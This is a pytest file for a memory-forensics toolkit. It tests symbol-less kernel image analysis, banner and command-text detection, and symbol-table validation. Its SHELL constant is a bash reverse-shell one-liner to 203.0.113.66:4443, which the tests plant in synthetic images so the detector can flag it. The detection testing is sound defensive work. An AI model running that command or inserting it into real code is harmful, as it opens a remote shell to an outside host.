"""An image whose kernel nobody has symbols for: partial, with the reason, and with what needs no symbols."""

from __future__ import annotations

import json
import lzma
from pathlib import Path
from typing import Any

import pytest

from forensic_toolkit.commands import memory
from forensic_toolkit.errors import SymbolError
from forensic_toolkit.results import Results
from forensic_toolkit.rules import memory_search
from forensic_toolkit.symbols import isf
from forensic_toolkit.times import now
from lab.evidence import memory as lab_memory
from tests.toolkit import btf_blob
from tests.toolkit.examined import NO_TOOLS, TOOLS, run

BANNER = b"Linux version 6.99.0-unknown (builder@example) (gcc 14) #1 SMP PREEMPT_DYNAMIC 2026\n"
SHELL = b"bash -i >& /dev/tcp/203.0.113.66/4443 0>&1"


def results() -> Results:
    return Results("fc-20260101-0123456789", "mem-1", "memory", started=now())


def image_with(folder: Path, *content: bytes) -> Path:
    path = folder / "memory"
    path.write_bytes(b"EMiL" + bytes(60) + b"\0".join(content) + bytes(4096))
    return path


def packed_table(folder: Path, version: bytes) -> Path:
    facts = isf.KernelFacts(btf=btf_blob.small(), kallsyms=btf_blob.kallsyms(), version=version)
    path = folder / "table.json.xz"
    path.write_bytes(lzma.compress(isf.dump(isf.build(facts)), preset=0))
    return path


def test_banner_and_commands_are_found_with_their_places(tmp_path: Path) -> None:
    image = image_with(tmp_path, BANNER, b"harmless text", SHELL, SHELL, b"\x01" + SHELL[:4])
    assert memory_search.banners(image) == [BANNER.decode().rstrip("\n")]
    found = results()
    memory_search.analyse(image, results=found)
    commands = [item for item in found.findings if "text in memory" in item.title]
    assert [item.detail for item in commands] == [SHELL.decode()]
    assert image.read_bytes()[commands[0].data["offset"] :].startswith(SHELL)
    assert commands[0].confidence == "low"


def test_a_text_across_two_windows_is_told_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(memory_search, "WINDOW", 4096)
    monkeypatch.setattr(memory_search, "OVERLAP", 512)
    path = tmp_path / "memory"
    path.write_bytes(b"EMiL" + bytes(4080) + SHELL + bytes(9000))
    found = results()
    memory_search.analyse(path, results=found)
    assert [item.detail for item in found.findings if "text in memory" in item.title] == [SHELL.decode()]


def test_no_time_left_is_a_gap_with_the_place_reached(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(memory_search, "SECONDS", -1.0)
    found = results()
    memory_search.analyse(image_with(tmp_path, BANNER), results=found)
    assert any(what == "command lines" and why.startswith("0 of ") for what, why in found.gaps)


def test_a_table_of_the_library_is_used_when_the_capture_has_no_facts(tmp_path: Path) -> None:
    image = image_with(tmp_path, btf_blob.VERSION)
    files = {"memory": image, "symbols": packed_table(tmp_path, btf_blob.VERSION)}
    folder = memory.prepare_symbols(files, work=tmp_path, results=results())
    table = json.loads((folder / "linux" / "kernel.json").read_text())
    assert isf.banner_of(table) == btf_blob.VERSION.rstrip(b"\n") + b"\n"


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"no xz", "cannot be read"),
        (lzma.compress(b"{}"), "no symbol table"),
        (lzma.compress(b'{"symbols": {}}' * 9)[:40], "cut off"),
    ],
)
def test_a_table_that_cannot_be_used_is_named(tmp_path: Path, content: bytes, reason: str) -> None:
    path = tmp_path / "table"
    path.write_bytes(content)
    with pytest.raises(SymbolError, match=reason):
        memory.prepare_symbols({"memory": path, "symbols": path}, work=tmp_path, results=results())


def test_a_table_of_another_kernel_is_not_used(tmp_path: Path) -> None:
    files = {"memory": image_with(tmp_path, BANNER), "symbols": packed_table(tmp_path, btf_blob.VERSION)}
    with pytest.raises(SymbolError, match="does not hold this kernel's banner"):
        memory.prepare_symbols(files, work=tmp_path, results=results())


_COMMAND = """
import json, sys, tempfile
from pathlib import Path
from forensic_toolkit import manifest
from forensic_toolkit.commands import investigation
from forensic_toolkit.filesystems.block_device import Measured

image = Path(sys.argv[1])
files = {"memory": image, **{name: Path(sys.argv[2]) / name for name in sys.argv[3:]}}
inputs = investigation._Inputs(files, Measured(bytes=image.stat().st_size, sha256="0" * 64), [])
investigation._memory = lambda _manifest, work: inputs
request = investigation.Request("memory", "fc-20260101-0123456789", "mem-1", None, "quick", 600.0)
with tempfile.TemporaryDirectory() as folder:
    found = investigation.investigate(request, manifest=manifest.parse("forensics-manifest 1"), work=Path(folder))
print(json.dumps(found))
"""


@pytest.mark.investigate
@pytest.mark.skipif(not TOOLS.exists(), reason=NO_TOOLS)
@pytest.mark.parametrize("kept", [(), ("btf", "kallsyms")])
def test_the_labs_image_without_its_kernels_facts(kept: tuple[str, ...], tmp_path: Path) -> None:
    files = lab_memory.unpack(tmp_path)
    found: dict[str, Any] = json.loads(run(_COMMAND, str(files.memory), str(tmp_path), *kept))
    assert found["failure"] is None
    gaps = {gap["what"]: gap["why"] for gap in found["gaps"]}
    assert "6.1.0-56-cloud-amd64" in gaps["processes, connections, modules"]
    missing = {"btf", "kallsyms", "version"} - set(kept)
    assert all(name in gaps["processes, connections, modules"] for name in missing)
    titles = [item["title"] for item in found["findings"]]
    print(f"\n[investigate] memory without symbols: {len(titles)} findings: {sorted(set(titles))}")
    assert any(
        "text in memory" in title and item["confidence"] == "low"
        for title, item in zip(titles, found["findings"], strict=True)
    )
    ran = {(run["tool"], run["rows"]) for run in found["provenance"]}
    assert any(tool == "yara-x" for tool, _rows in ran)
